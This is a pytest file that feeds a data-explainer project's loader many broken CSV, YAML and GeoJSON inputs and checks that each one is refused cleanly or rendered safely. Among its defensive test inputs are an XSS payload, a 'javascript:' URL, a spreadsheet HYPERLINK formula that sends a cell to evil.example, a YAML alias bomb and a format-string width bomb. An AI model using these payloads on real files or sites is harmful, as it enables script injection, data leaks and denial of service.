"""The clean-error contract, over many broken inputs: every input either loads and then
renders (map, linked view, export), or is refused with `FILE:ROW: field: message`
problems that name the file. Nothing raises anything else, nothing hangs.
"""

from __future__ import annotations

import os
import re
import string
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import explainer
from explainer import DataError
from explainer.surfaces._export import export
from explainer.views._moments import view_spec
from explainer.views._table import membership_csv

from .conftest import ROOT, copy_project

PROBLEM = re.compile(r"^(?P<file>[^:]+):(?P<row>\d+): (?P<field>[^:]+): (?P<message>.+)$", re.S)

Mutation = Callable[[Path], object]  # what it returns is not used


def edit(name: str, old: str, new: str) -> Mutation:
    def apply(root: Path) -> None:
        path = root / name
        text = path.read_text(encoding="utf-8")
        assert old in text, f"fixture drifted: {old!r} not in {name}"
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    return apply


def write(name: str, content: str | bytes) -> Mutation:
    def apply(root: Path) -> None:
        path = root / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")

    return apply


def remove(name: str) -> Mutation:
    return lambda root: (root / name).unlink()


def prepend(name: str, text: str) -> Mutation:
    def apply(root: Path) -> None:
        path = root / name
        path.write_text(text + path.read_text(encoding="utf-8"), encoding="utf-8")

    return apply


def billion_laughs() -> str:
    lines = ['a0: &a0 "lol"']
    for i in range(1, 10):
        lines.append(f"a{i}: &a{i} [{', '.join(f'*a{i - 1}' for _ in range(10))}]")
    return "\n".join(lines) + "\n"


def deep(levels: int) -> str:
    return "- " + "[" * levels + "]" * levels + "\n"


GEOMETRY = "geometry/countries.geojson"
LIST = "membership/2014-09-30.csv"
LIST_META = "membership/2014-09-30.meta.yml"
SOURCE = 'ec-speech-12-912,"Malmström\'s speech, SPEECH/12/912"'

# id -> (mutation, file named in the problems, or None when the input is acceptable)
MUTATIONS: dict[str, tuple[Mutation, str | None]] = {
    # sources.csv
    "source-empty-swedish-short": (edit("sources.csv", ',"Malmströms tal vid expertkonferensen, 5 dec. 2012"', ","), "sources.csv"),
    "source-duplicate-id": (edit("sources.csv", "ec-speech-12-912,", "ec-speech-12-911,"), "sources.csv"),
    "source-javascript-url": (edit("sources.csv", "http://europa.eu/rapid/press-release_SPEECH-12-912_en.htm?locale=EN", "javascript:alert(1)"), "sources.csv"),
    "source-unknown-language": (edit("sources.csv", "SPEECH-12-912_en.htm?locale=EN,en,", "SPEECH-12-912_en.htm?locale=EN,zz,"), "sources.csv"),
    "source-unknown-kind": (edit("sources.csv", "locale=EN,en,original", "locale=EN,en,blog"), "sources.csv"),
    "source-impossible-date": (edit("sources.csv", "sexual abuse,,,2012-12-05", "sexual abuse,,,2012-02-30"), "sources.csv"),
    "source-shared-short-name": (edit("sources.csv", "\"Malmström's speech to experts, 5 Dec 2012\"", "\"Malmström's remarks at the launch, 5 Dec 2012\""), "sources.csv"),
    "source-missing-column": (edit("sources.csv", "id,short_en,short_sv,", "id,short_en,"), "sources.csv"),
    "source-extra-column": (edit("sources.csv", ",doc_code,note", ",doc_code,note,colour"), "sources.csv"),
    "source-semicolons": (write("sources.csv", "id;short_en;short_sv;publisher_en\nx;y;z;w\n"), "sources.csv"),
    "source-byte-order-mark": (prepend("sources.csv", "\ufeff"), None),
    "source-huge-cell": (edit("sources.csv", "Together against child sexual abuse", "x" * 30_000), "sources.csv"),
    "source-control-character": (edit("sources.csv", "Together against child", "Together\x07against child"), "sources.csv"),
    "source-too-many-cells": (edit("sources.csv", "Brussels.\"", "Brussels.\",extra"), "sources.csv"),
    "source-unclosed-quote": (edit("sources.csv", "SPEECH/12/912,\"Speech at the expert conference, Brussels.\"", "SPEECH/12/912,\"Speech at the expert conference, Brussels."), "sources.csv"),
    "source-not-utf8": (lambda root: (root / "sources.csv").write_bytes((root / "sources.csv").read_text(encoding="utf-8").encode("latin-1", "replace")), "sources.csv"),
    "source-file-missing": (remove("sources.csv"), "sources.csv"),
    "source-file-empty": (write("sources.csv", ""), "sources.csv"),
    "source-file-too-big": (write("sources.csv", "id\n" + "x" * 3_000_000 + "\n"), "sources.csv"),
    # countries.csv
    "country-unknown-code": (edit("countries.csv", "MLT,Malta,Malta,", "MLX,Malta,Malta,"), "countries.csv"),
    "country-name-with-line-break": (edit("countries.csv", "MLT,Malta,Malta,", 'MLT,"Mal\nta",Malta,'), "countries.csv"),
    "country-eu-maybe": (edit("countries.csv", "MLT,Malta,Malta,yes", "MLT,Malta,Malta,maybe"), "countries.csv"),
    "country-eu-from-outside-eu": (edit("countries.csv", "NOR,Norway,Norge,no,", "NOR,Norway,Norge,no,2013-01-01"), "countries.csv"),
    "country-formula-name": (edit("countries.csv", "MLT,Malta,Malta,", 'MLT,"=HYPERLINK(""http://evil.example/?""&A1,""Malta"")",Malta,'), None),
    "country-half-a-note": (edit("countries.csv", "MLT,Malta,Malta,yes,,ec-av-shotlist-i-075554 ec-release-2014-09-30,,", "MLT,Malta,Malta,yes,,ec-av-shotlist-i-075554 ec-release-2014-09-30,A note,"), "countries.csv"),
    "country-duplicate": (edit("countries.csv", "NOR,Norway", "MLT,Norway"), "countries.csv"),
    "country-without-a-shape": (lambda root: (root / "countries.csv").open("a").write("ATA,Antarctica,Antarktis,no,,ec-release-2014-09-30,,\n"), "countries.csv"),
    # membership lists and changes
    "list-duplicate-member": (edit(LIST, "ALB,Albanien", "ALB,Albanien\nALB,Albanien"), LIST),
    "list-country-not-in-countries": (edit(LIST, "ALB,Albanien", "ISL,Island"), LIST),
    "list-stated-total-wrong": (edit(LIST_META, "stated_total: 54", "stated_total: 55"), LIST_META),
    "list-date-not-the-file-name": (edit(LIST_META, "date: 2014-09-30", "date: 2014-09-29"), LIST_META),
    "list-meta-without-origin": (edit(LIST_META, "origin:", "source_info:"), LIST_META),
    "list-meta-not-yaml": (write(LIST_META, "date: [2014\n"), LIST_META),
    # questionable input the 2 December review found accepted, now refused
    "country-name-line-separator": (edit("countries.csv", "ALB,Albania,", "ALB,Alba\u2028nia,"), "countries.csv"),
    "event-place-bidi-override": (edit("events.yml", "place: {en: Washington,", "place: {en: \"Wash\u202eington\","), "events.yml"),
    "source-csv-ends-inside-a-quote": (lambda root: (root / "sources.csv").open("a", encoding="utf-8").write('x,"never closed\n'), "sources.csv"),
    "change-date-with-a-time-zone": (edit("membership/changes.csv", "2013-06-17,CAN", "2013-06-17T00:00:00Z,CAN"), "membership/changes.csv"),
    "list-meta-total-yes": (edit(LIST_META, "stated_total: 54", "stated_total: yes"), LIST_META),
    "list-meta-total-a-float": (edit(LIST_META, "stated_total: 54", "stated_total: 54.0"), LIST_META),
    "list-meta-total-as-text": (edit(LIST_META, "stated_total: 54", "stated_total: '5e1'"), LIST_META),
    "event-yaml-tag": (edit("events.yml", "  date: 2011-12\n", "  date: !!binary aGVsbG8=\n"), "events.yml"),
    "event-yaml-tag-on-text": (edit("events.yml", "  date: 2011-12\n", "  date: !!str 2011-12\n"), "events.yml"),
    "view-scale-as-text": (edit("../story.yml", "scale: 4.6", "scale: '4.6'"), "story.yml"),
    "list-meta-without-its-list": (lambda root: (root / "membership" / "2013-01-01.meta.yml").write_text("date: 2013-01-01\n"), "membership/2013-01-01.meta.yml"),
    "change-impossible-month": (edit("membership/changes.csv", "2013-06-17,CAN", "2013-13-01,CAN"), "membership/changes.csv"),
    "change-unknown-kind": (edit("membership/changes.csv", "CAN,joined", "CAN,paused"), "membership/changes.csv"),
    "undated-bounds-reversed": (edit("membership/undated.csv", "ARM,joined,2012-12-05,2014-09-30", "ARM,joined,2014-09-30,2012-12-05"), "membership/undated.csv"),
    "undated-bound-not-a-list": (edit("membership/undated.csv", "ARM,joined,2012-12-05", "ARM,joined,2012-12-06"), "membership/undated.csv"),
    "count-named-many": (edit("membership/counts.csv", "2014-03-26,53,none", "2014-03-26,53,many"), "membership/counts.csv"),
    "count-negative": (edit("membership/counts.csv", "2014-03-26,53,", "2014-03-26,-3,"), "membership/counts.csv"),
    # events.yml
    "event-impossible-unquoted-date": (edit("events.yml", "date: 2012-06-07", "date: 2012-02-30"), "events.yml"),
    "event-month-thirteen": (edit("events.yml", "date: 2012-06-07", "date: 2012-13-07"), "events.yml"),
    "event-precision-mismatch": (edit("events.yml", "date: 2012-06-07\n  precision: day", "date: 2012-06-07\n  precision: month"), "events.yml"),
    "event-missing-swedish-title": (edit("events.yml", "    sv: EU:s ministrar ställer sig bakom idén\n", ""), "events.yml"),
    "event-duplicate-id": (edit("events.yml", "- id: council-2012", "- id: idea-2011"), "events.yml"),
    "event-alias-bomb": (write("events.yml", billion_laughs()), "events.yml"),
    "event-duplicate-key": (edit("events.yml", "- id: council-2012\n", "- id: council-2012\n  id: council-2013\n"), "events.yml"),
    "event-deep-nesting": (write("events.yml", deep(5000)), "events.yml"),
    "event-file-empty": (write("events.yml", ""), "events.yml"),
    "event-only-comments": (write("events.yml", "# nothing yet\n"), "events.yml"),
    "event-empty-list": (write("events.yml", "[]\n"), "events.yml"),
    "event-not-a-list": (write("events.yml", "id: launch\n"), "events.yml"),
    "event-tab-indentation": (edit("events.yml", "  precision: month", "\tprecision: month"), "events.yml"),
    "event-hostile-title": (edit("events.yml", "en: EU ministers back the idea", 'en: "<script>alert(1)</script></script><img src=x onerror=alert(2)>"'), None),
    "event-date-a-list": (edit("events.yml", "date: 2012-06-07", "date: [2012, 6, 7]"), "events.yml"),
    "event-unknown-source": (edit("events.yml", "sources: [council-conclusions-2012-06-07", "sources: [no-such-source"), "events.yml"),
    # quotes.yml and targets
    "quote-unknown-event": (edit("quotes.yml", "event: copenhagen-2012", "event: copenhagen-2013"), "quotes.yml"),
    "quote-translated-into-its-own-language": (edit("quotes.yml", "    - language: sv\n      translator:\n        en: European", "    - language: en\n      translator:\n        en: European"), "quotes.yml"),
    "quote-impossible-date": (edit("quotes.yml", "date: 2014-09-30", "date: 2014-09-31"), "quotes.yml"),
    "quote-nul-character": (edit("quotes.yml", "I feel very strongly", "I feel\x00 very strongly"), "quotes.yml"),
    "quote-escaped-bell": (edit("quotes.yml", "  speaker: Eric Holder", '  speaker: "Eric\\a Holder"'), "quotes.yml"),
    "targets-meta-alias-bomb": (lambda root: (root / "targets.meta.yml").open("a").write("note_bomb:\n" + "".join("  " + line + "\n" for line in billion_laughs().splitlines())), "targets.meta.yml"),
    "targets-meta-without-swedish": (edit("targets.meta.yml", "  sv:\n    source: eureporter-2014-09-30-sv", "  de:\n    source: eureporter-2014-09-30-sv"), "targets.meta.yml"),
    # .meta.yml files
    "events-meta-missing": (remove("events.meta.yml"), "events.meta.yml"),
    "countries-meta-not-yaml": (write("countries.meta.yml", "origin: {producer: [\n"), "countries.meta.yml"),
    "quotes-meta-caveats-not-a-list": (edit("quotes.meta.yml", "caveats:\n", "caveats: no\nold_caveats:\n"), "quotes.meta.yml"),
    "sources-meta-bad-url": (edit("data/../sources.meta.yml" if False else "sources.meta.yml", "  language: en", "  language: en\n  url_main: ftp://example.org"), "sources.meta.yml"),
    # map views
    "view-nan-centre": (edit("../story.yml", "centre: [15, 48.5]", "centre: [.nan, 48.5]"), "story.yml"),
    "view-list-empty": (edit("../story.yml", "  views:\n", "  views: []\n  old_views:\n"), "story.yml"),
    "view-scale-zero": (edit("../story.yml", "scale: 4.6", "scale: 0"), "story.yml"),
    # story.yml
    "story-file-empty": (write("../story.yml", ""), "story.yml"),
    "story-not-yaml": (write("../story.yml", "title: {en: [\n"), "story.yml"),
    "story-language-unknown": (edit("../story.yml", "code: sv, locale: sv_SE", "code: xx, locale: sv_SE"), "story.yml"),
    "story-home-notebook-missing-language": (edit("../story.yml", ", sv: explainer-sv.ipynb}", "}"), "story.yml"),
    "story-language-twice": (edit("../story.yml", "code: sv, locale: sv_SE", "code: en, locale: sv_SE"), "story.yml"),
    "story-status-width-bomb": (lambda root: (root / "../story.yml").open("a").write("statuses:\n  joined:\n    detail: {en: 'x {date:>99999999}', sv: 'y {date}'}\n"), "story.yml"),
    "story-status-conversion": (lambda root: (root / "../story.yml").open("a").write("statuses:\n  joined:\n    detail: {en: 'x {date!r}', sv: 'y {date}'}\n"), "story.yml"),
    "story-key-with-a-colon": (lambda root: (root / "../story.yml").open("a").write('"a:b": 1\n'), "story.yml"),
    "source-column-with-a-colon": (edit("sources.csv", "id,short_en", ":id,short_en"), "sources.csv"),
    "story-group-unknown-field": (edit("../story.yml", "  id: eu\n", "  id: eu\n  colour: blue\n"), "story.yml"),
    # geometry
    "geometry-two-point-ring": (lambda root: _geometry(root, "MLT", {"type": "Polygon", "coordinates": [[[14.4, 35.9], [14.5, 35.9]]]}), GEOMETRY),
    "geometry-null": (lambda root: _geometry(root, "MLT", None), GEOMETRY),
    "geometry-point": (lambda root: _geometry(root, "MLT", {"type": "Point", "coordinates": [14.4, 35.9]}), GEOMETRY),
    "geometry-out-of-range": (lambda root: _geometry(root, "MLT", {"type": "Polygon", "coordinates": [[[400, 35], [401, 35], [401, 36], [400, 35]]]}), GEOMETRY),
    "geometry-not-json": (write(GEOMETRY, "{not json"), GEOMETRY),
    "geometry-iso3-a-number": (lambda root: _geometry(root, "MLT", "keep", code=470), GEOMETRY),
    "geometry-missing": (remove(GEOMETRY), GEOMETRY),
}  # fmt: skip


def _geometry(root: Path, iso3: str, geometry: object, code: object = None) -> None:
    import json

    path = root / GEOMETRY
    collection = json.loads(path.read_text(encoding="utf-8"))
    for feature in collection["features"]:
        if feature["properties"]["iso3"] == iso3:
            if geometry != "keep":
                feature["geometry"] = geometry
            if code is not None:
                feature["properties"]["iso3"] = code
    path.write_text(json.dumps(collection), encoding="utf-8")


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A copy of the story (story.yml, data/, notebooks/) to break."""
    return copy_project(ROOT, tmp_path / "story")


def test_there_are_enough_distinct_mutations() -> None:
    assert len(MUTATIONS) >= 60
    assert sum(expected is None for _, expected in MUTATIONS.values()) >= 3


def assert_clean_refusal(error: DataError, data: Path, expected: str) -> None:
    assert error.problems, "a refusal names at least one problem"
    for problem in error.problems:
        match = PROBLEM.match(str(problem))
        assert match, str(problem)
        assert "Traceback" not in str(problem)
    files = {p.file for p in error.problems}
    assert expected in files, (expected, [str(p) for p in error.problems])
    assert len(error.problems) <= 12, "one mistake, a few lines: no cascade"


@pytest.mark.parametrize("name", sorted(MUTATIONS))
def test_every_input_is_refused_cleanly_or_renders(project: Path, name: str) -> None:
    mutate, expected = MUTATIONS[name]
    data = project / "data"
    mutate(data)
    try:
        dataset = explainer.load_dataset(data)
    except DataError as error:
        assert expected is not None, f"{name} should load: {error}"
        assert_clean_refusal(error, data, expected)
        return
    assert expected is None, f"{name} was accepted"
    for lang in ("en", "sv"):
        view_spec(dataset, lang)
    page = export(project / "site", "en", project).read_text(encoding="utf-8")
    assert (
        "<script>alert(1)</script>"
        not in page.replace("\\u003c", "<").split("data-explainer-view")[0]
    ), "hostile text stays escaped outside the JSON island"
    if name == "country-formula-name":
        assert "'=HYPERLINK" in membership_csv(dataset)


def test_a_read_error_is_a_problem(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = Path.read_bytes

    def failing(self: Path) -> bytes:
        if self.name == "quotes.yml":
            raise OSError(5, "Input/output error")
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", failing)
    with pytest.raises(DataError) as caught:
        explainer.load_dataset(project / "data")
    assert [str(p) for p in caught.value.problems] == [
        "quotes.yml:0: (file): cannot be read: Input/output error"
    ]


FILES = ["sources.csv", "countries.csv", "events.yml", "quotes.yml", "targets.yml",
         "../story.yml", "membership/2014-09-30.csv", "membership/undated.csv",
         "membership/counts.csv", "targets.meta.yml", "membership/2012-12-05.meta.yml"]  # fmt: skip
NOISE = st.text(alphabet=string.printable + "åäö–”\u0000\ufeff&*:-[]{}#|>", max_size=40)


@settings(
    max_examples=int(os.environ.get("EXPLAINER_DAMAGE_EXAMPLES", "60")),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(name=st.sampled_from(FILES), where=st.floats(0, 1), cut=st.integers(0, 30), noise=NOISE)
def test_random_damage_never_escapes_the_contract(
    tmp_path_factory: pytest.TempPathFactory, name: str, where: float, cut: int, noise: str
) -> None:
    data = copy_project(ROOT, tmp_path_factory.mktemp("damaged") / "story") / "data"
    path = data / name
    text = path.read_text(encoding="utf-8")
    at = int(where * len(text))
    path.write_text(text[:at] + noise + text[at + cut :], encoding="utf-8")
    try:
        dataset = explainer.load_dataset(data)
    except DataError as error:
        assert all(PROBLEM.match(str(p)) for p in error.problems)
        return
    for lang in ("en", "sv"):
        view_spec(dataset, lang)


def test_validate_command_never_prints_a_traceback(project: Path) -> None:
    import subprocess
    import sys

    MUTATIONS["event-alias-bomb"][0](project / "data")
    result = subprocess.run(
        [sys.executable, "-m", "explainer", "validate", "--data", str(project / "data")],
        capture_output=True, text=True, check=False, timeout=60,
        env={**os.environ, "PYTHONWARNINGS": "ignore"},
    )  # fmt: skip
    assert result.returncode == 1
    where, first = result.stderr.splitlines()[:2]
    assert where == f"in {project / 'data'}:"
    assert first.startswith("events.yml:")
    assert "Traceback" not in result.stderr and "aliases" in result.stderr


def _one_huge_cell(root: Path) -> None:
    path = root / "sources.csv"
    lines = path.read_text(encoding="utf-8").split("\n")
    lines[1] += "x" * 1_000_000
    path.write_text("\n".join(lines), encoding="utf-8")


def _folder_for_a_file(name: str) -> Mutation:
    def apply(root: Path) -> None:
        (root / name).unlink()
        (root / name).mkdir()

    return apply


CULPRITS: dict[str, tuple[Mutation, str]] = {
    "a 1 MB cell in sources.csv": (_one_huge_cell, "sources.csv"),
    "sources.csv separated by semicolons": (
        lambda root: (root / "sources.csv").write_text(
            (root / "sources.csv").read_text(encoding="utf-8").replace(",", ";"), "utf-8"
        ),
        "sources.csv",
    ),
    "countries.csv separated by semicolons": (
        lambda root: (root / "countries.csv").write_text(
            (root / "countries.csv").read_text(encoding="utf-8").replace(",", ";"), "utf-8"
        ),
        "countries.csv",
    ),
    "countries.csv unreadable (a folder)": (_folder_for_a_file("countries.csv"), "countries.csv"),
    "events.yml not a list": (write("events.yml", "id: one\n"), "events.yml"),
    "a country's shape with a coordinate as text": (
        lambda root: _geometry(root, "MLT", {"type": "Polygon", "coordinates": [[[14.4, "35.9"], [14.5, 35.9], [14.5, 36], [14.4, 35.9]]]}),
        GEOMETRY,
    ),
    "a country's shape that is not valid": (
        lambda root: _geometry(root, "MLT", {"type": "Polygon", "coordinates": [[[14.4, 35.9], [14.5, 35.9]]]}),
        GEOMETRY,
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(CULPRITS))
def test_a_file_that_cannot_be_read_is_blamed_alone(project: Path, name: str) -> None:
    """References into a broken file are not checked: its one problem, not hundreds."""
    mutate, culprit = CULPRITS[name]
    mutate(project / "data")
    with pytest.raises(DataError) as caught:
        explainer.load_dataset(project / "data")
    problems = [str(p) for p in caught.value.problems]
    assert 1 <= len(problems) <= 5, problems
    assert {p.file for p in caught.value.problems} == {culprit}, problems
